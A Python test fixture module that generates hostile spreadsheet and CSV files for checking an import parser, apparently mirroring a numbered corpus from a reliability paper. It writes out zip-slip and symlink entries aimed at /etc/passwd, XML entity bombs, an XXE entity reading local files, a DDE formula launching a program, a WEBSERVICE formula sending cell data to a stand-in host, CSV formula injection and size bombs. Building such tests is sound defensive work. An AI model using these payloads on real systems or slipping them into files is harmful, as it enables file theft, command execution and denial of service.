"""Files made to harm. Made on the fly: nothing hostile lies in the repository.

Numbers in brackets are those of the corpus in the reliability paper.
"""

import io
import random
import stat
import struct
import zipfile
from collections.abc import Callable, Iterator

from tests.core.exchange.sheets import GOOD, HEADINGS, table, text, workbook

MALICIOUS: dict[str, Callable[[], tuple[bytes, str]]] = {}
SHEET = "xl/worksheets/sheet1.xml"
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def malicious(build):
    MALICIOUS[build.__name__] = build
    return build


def changed(content: bytes, parts: dict[str, bytes | None], *, extra=()) -> bytes:
    """The container with some parts replaced, dropped (None) or added; `extra` are (info, bytes)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            body = parts.get(info.filename, old.read(info))
            if body is not None:
                new.writestr(info.filename, body)
        for name, body in parts.items():
            if body is not None and name not in old.namelist():
                new.writestr(name, body)
        for info, body in extra:
            new.writestr(info, body)
    return out.getvalue()


def sheet_of(body: bytes) -> bytes:
    whole = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
        + _NS.encode()
        + b">"
        + body
        + b"</worksheet>"
    )
    return changed(table(GOOD), {SHEET: whole})


def _rows(count: int) -> Iterator[bytes]:
    for number in range(1, count + 1):
        yield b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (number, number)


@malicious
def cell_at_the_last_corner():  # (1)
    row = b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return sheet_of(row), "a.xlsx"


@malicious
def cell_at_the_last_corner_in_single_quotes():
    return sheet_of(
        b"<sheetData><row r='1048576'><c r='XFD1048576'><v>1</v></c></row></sheetData>"
    ), "a.xlsx"


@malicious
def cell_at_the_last_corner_with_blanks():
    return (
        sheet_of(
            b'<sheetData><row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row></sheetData>'
        ),
        "a.xlsx",
    )


@malicious
def one_cell_of_419_megabytes():  # (2)
    inner = (
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        + b"x" * (200 << 20)
        + b"</t></is></c></row></sheetData>"
    )
    return sheet_of(inner), "a.xlsx"


@malicious
def one_long_cell_that_hardly_packs():
    cell = random.Random(1).randbytes(12 << 20).hex().encode()
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + cell + b"</t></is></c></row>"
    return sheet_of(b"<sheetData>" + row + b"</sheetData>"), "a.xlsx"


@malicious
def a_million_rows():  # (3)
    return sheet_of(b"<sheetData>" + b"".join(_rows(1_000_000)) + b"</sheetData>"), "a.xlsx"


@malicious
def rows_without_numbers():
    rows = b"<row><c><v>1</v></c></row>" * 30_000
    return sheet_of(b"<sheetData>" + rows + b"</sheetData>"), "a.xlsx"


@malicious
def three_million_shared_strings():  # (4)
    strings = b"<si><t>abcdefghijklmnop</t></si>" * 3_000_000
    body = b"<sst " + _NS.encode() + b">" + strings + b"</sst>"
    return changed(table(GOOD), {"xl/sharedStrings.xml": body}), "a.xlsx"


@malicious
def sizes_that_lie():  # (5)
    content = bytearray(table(GOOD))
    at = content.rfind(b"PK\x01\x02", 0, content.find(SHEET.encode(), content.find(b"PK\x01\x02")))
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content), "a.xlsx"


@malicious
def workbook_in_a_workbook():  # (6)
    return changed(table(GOOD), {"xl/embeddings/inner.xlsx": table(GOOD)}), "a.xlsx"


@malicious
def overlapping_parts():  # (7)
    content = bytearray(table(GOOD))
    first = content.find(b"PK\x01\x02")
    second = content.find(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content), "a.xlsx"


@malicious
def a_hundred_thousand_parts():  # (8)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(66_000):
            archive.writestr(f"xl/{number}", b"")
    return out.getvalue(), "a.xlsx"


@malicious
def name_that_climbs():  # (9)
    return changed(table(GOOD), {"../../etc/passwd": b"x"}), "a.xlsx"


@malicious
def link_instead_of_a_part():  # (10)
    info = zipfile.ZipInfo("xl/link.xml")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return changed(table(GOOD), {}, extra=[(info, b"/etc/passwd")]), "a.xlsx"


@malicious
def absolute_name():  # (11)
    return changed(table(GOOD), {"/etc/passwd": b"x"}), "a.xlsx"


@malicious
def entity_bomb():  # (12)
    lines = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    body = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">'
        + lines
        + b"]><worksheet>&l9;</worksheet>"
    )
    return changed(table(GOOD), {SHEET: body}), "a.xlsx"


@malicious
def entity_that_reads_a_file():  # (31)
    body = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst>&x;</sst>'
    )
    return changed(table(GOOD), {"xl/sharedStrings.xml": body}), "a.xlsx"


@malicious
def relation_to_another_workbook():  # (13)
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file:///c:/x.xlsx" TargetMode="External"/></Relationships>'
    )
    return changed(table(GOOD), {"xl/externalLinks/_rels/externalLink1.xml.rels": link}), "a.xlsx"


@malicious
def relation_disguised_in_another_folder():
    link = (
        b'<Relationships><Relationship Id="rId9" Type="http://x/externalLink" '
        b'Target="file:///c:/x.xlsx" TargetMode="External"/></Relationships>'
    )
    return changed(table(GOOD), {"xl/worksheets/_rels/sheet1.xml.rels": link}), "a.xlsx"


@malicious
def formula_that_starts_a_program():  # (14)
    def change(_book, page):
        page.write_formula(1, 0, "=cmd|'/c calc'!A0", value="Zhang")

    return workbook([HEADINGS, GOOD], change=change), "a.xlsx"


@malicious
def formula_that_calls_out():
    def change(_book, page):
        page.write_formula(1, 0, '=WEBSERVICE("http://example.invalid/"&A2)', value="Zhang")

    return workbook([HEADINGS, GOOD], change=change), "a.xlsx"


@malicious
def text_that_is_a_formula():
    return table(["=HYPERLINK(1)", *GOOD[1:]]), "a.xlsx"


@malicious
def macros_renamed():  # (15)
    return changed(table(GOOD), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "a.xlsx"


@malicious
def macro_content_type():
    with zipfile.ZipFile(io.BytesIO(table(GOOD))) as archive:
        types = archive.read("[Content_Types].xml")
    main = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = types.replace(main, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return changed(table(GOOD), {"[Content_Types].xml": types}), "a.xlsx"


@malicious
def encrypted():  # (16)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 5000, "a.xlsx"


@malicious
def encrypted_parts():
    content = bytearray(table(GOOD))
    at = content.find(b"PK\x01\x02")
    struct.pack_into("<H", content, at + 8, 1)
    return bytes(content), "a.xlsx"


@malicious
def truncated():  # (17)
    content = table(GOOD)
    return content[: len(content) // 2], "a.xlsx"


@malicious
def part_that_does_not_unpack():
    content = bytearray(table(GOOD))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        at = archive.getinfo(SHEET).header_offset + 30 + len(SHEET)
    content[at : at + 8] = b"\xff" * 8
    return bytes(content), "a.xlsx"


@malicious
def wrong_magic():  # (18)
    return b"%PDF-1.7\n" + b"x" * 100, "a.xlsx"


@malicious
def workbook_called_csv():
    return table(GOOD), "a.csv"


@malicious
def script_called_xlsm():
    return table(GOOD), "a.xlsm"


@malicious
def two_parts_of_one_name():  # (19)
    with zipfile.ZipFile(io.BytesIO(table(GOOD))) as archive:
        body = archive.read(SHEET)
    return changed(table(GOOD), {}, extra=[(SHEET.upper().replace("XL/", "xl/"), body)]), "a.xlsx"


@malicious
def column_beyond_the_grid():  # (20)
    return sheet_of(b'<sheetData><row r="1"><c r="XFE1"><v>1</v></c></row></sheetData>'), "a.xlsx"


@malicious
def sixteen_thousand_headings():  # (21)
    return workbook([[f"h{n}" for n in range(16_000)]]), "a.xlsx"


@malicious
def hidden_sheet_with_data():  # (22)
    def change(book, _page):
        hidden = book.add_worksheet("secret")
        hidden.write_string(0, 0, "data")
        hidden.hide()

    return workbook([HEADINGS, GOOD], change=change), "a.xlsx"


@malicious
def flood_of_merged_ranges():  # (23)
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, 60_000))
    return sheet_of(b"<sheetData/><mergeCells>" + merges + b"</mergeCells>"), "a.xlsx"


@malicious
def day_beyond_the_calendar():  # (24)
    def change(book, page):
        page.write_number(1, 4, 9.9e9, book.add_format({"num_format": "yyyy-mm-dd"}))

    return workbook([HEADINGS, [*GOOD[:4], None, *GOOD[5:]]], change=change), "a.xlsx"


@malicious
def part_in_utf16():
    with zipfile.ZipFile(io.BytesIO(table(GOOD))) as archive:
        body = archive.read(SHEET).decode().replace("UTF-8", "UTF-16").encode("utf-16")
    return changed(table(GOOD), {SHEET: body}), "a.xlsx"


@malicious
def deeply_nested_elements():  # (35)
    return sheet_of(
        b"<sheetData>" + b"<x>" * 200_000 + b"</x>" * 200_000 + b"</sheetData>"
    ), "a.xlsx"


@malicious
def csv_formulas():  # (25)
    return text(
        HEADINGS, ["=1+1", *GOOD[1:]], ["@SUM(1)", *GOOD[1:]], ["+cmd|x", *GOOD[1:]]
    ), "a.csv"


@malicious
def csv_with_nul():  # (26)
    return text(HEADINGS, ["Zh\x00ang", *GOOD[1:]]), "a.csv"


@malicious
def csv_in_two_encodings():  # (27)
    return text(HEADINGS).ljust(10) + "张伟".encode("utf-16") + "李娜".encode("gbk"), "a.csv"


@malicious
def csv_of_one_long_line():  # (28)
    return b"x" * (19 << 20), "a.csv"


@malicious
def csv_larger_than_allowed():
    return b"a,b\n" * (6 << 20), "a.csv"


@malicious
def csv_with_an_open_quote():
    return text(HEADINGS) + b'\r\n"Zhang,' + b"y" * 200_000, "a.csv"


@malicious
def csv_of_a_million_rows():
    return text(HEADINGS) + b"\r\na" * 1_000_000, "a.csv"


@malicious
def csv_of_control_characters():
    return text(HEADINGS, ["Zh\x07ang", *GOOD[1:]]), "a.csv"
